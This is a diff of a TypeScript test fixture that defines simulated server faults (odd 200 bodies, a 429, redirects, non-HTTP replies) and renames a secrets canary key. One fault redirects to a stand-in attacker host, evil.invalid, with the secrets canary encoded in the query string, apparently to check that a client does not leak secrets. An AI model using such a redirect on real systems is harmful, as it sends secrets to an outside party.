@@ -34,7 +34,7 @@ export const QUOTING: Record<string, Fault> = {
   "a 200 of another shape": {
     kind: "status",
     status: 200,
-    body: { id: QUOTED, [CANARIES.secrets]: QUOTED },
+    body: { id: QUOTED, [CANARIES["secrets, by its name"]]: QUOTED },
   },
   "a 429 that quotes": {
     kind: "status",
@@ -44,7 +44,7 @@ export const QUOTING: Record<string, Fault> = {
   },
   redirect: {
     kind: "redirect",
-    to: `https://evil.invalid/?${encodeURIComponent(CANARIES.secrets)}`,
+    to: `https://evil.invalid/?${encodeURIComponent(CANARIES["secrets, by its name"])}`,
   },
   not_http: { kind: "not_http" },
   "not_http after the commit": { kind: "not_http", when: "after" },
